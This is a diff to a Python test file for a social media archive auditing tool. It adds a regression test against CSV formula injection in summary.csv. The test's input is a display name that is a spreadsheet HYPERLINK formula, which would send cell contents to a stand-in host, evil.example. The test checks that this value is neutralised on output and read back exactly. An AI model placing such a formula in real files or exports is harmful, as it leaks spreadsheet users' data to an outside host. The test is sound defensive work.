@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from onrecord.api.audit import AuditOptions, run_audit
+from onrecord.api.audit import AuditOptions, read_summary, run_audit
 from onrecord.api.runners import EngineSpec, check_encoded, run_local
 from onrecord.cli.main import cli
 from onrecord.importers import UnusableInput
@@ -65,7 +65,7 @@ def test_counts_add_up_and_every_record_is_accounted_for(audited: tuple[Path, ob
 
 def test_accounts_file_gives_context(audited: tuple[Path, object]) -> None:
     out, _ = audited
-    rows = {(r["platform"], r["account"]): r for r in csv.DictReader((out / "summary.csv").open(encoding="utf-8"))}
+    rows = {(r["platform"], r["account"]): r for r in read_summary(str(out / "summary.csv"))}
     roads = rows[("x", "@RoadsDeptExample")]
     assert roads["kind"] == "official" and roads["posts"] == "8" and roads["deleted"] == "1"
     results = [r for r in _lines(out / "results.jsonl") if r["account"] == "@RoadsDeptExample"]
@@ -205,3 +205,18 @@ def test_map_mistakes_are_reported_not_ignored(tmp_path: Path) -> None:
     assert rej["location"] == "header" and "posted_at=whn: no such column (columns: body, when)" in rej["reason"]
     res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--map", "text=body", "--map", "posted_at=when"])
     assert res.exit_code == 0 and [r["id"] for r in _lines(tmp_path / "o" / "results.jsonl")] == ["line-2", "line-3"]
+
+
+def test_summary_csv_cells_cannot_run_as_formulas_and_read_back_exactly(tmp_path: Path) -> None:
+    """A display name ``=HYPERLINK(...)`` from an imported archive reached summary.csv as a live formula."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    src = tmp_path / "posts.jsonl"
+    src.write_text(json.dumps({"id": "1", "text": "Library hours are changing.", "platform": "x",
+                               "account": {"handle": "@evil", "display_name": evil}}) + "\n")
+    run_audit(AuditOptions(paths=[str(src)], out_dir=str(tmp_path / "o"), workers=1))
+    with (tmp_path / "o" / "summary.csv").open(newline="", encoding="utf-8") as f:
+        raw = next(csv.DictReader(f))
+    assert raw["display_name"] == "'" + evil and raw["account"] == "'@evil"  # a spreadsheet shows it as text
+    assert raw["posts"] == "1" and raw["posts_with_breach"] == "0"  # counts are numbers, never guarded
+    back = read_summary(str(tmp_path / "o" / "summary.csv"))[0]
+    assert back["display_name"] == evil and back["account"] == "@evil"  # the project's reader round-trips it
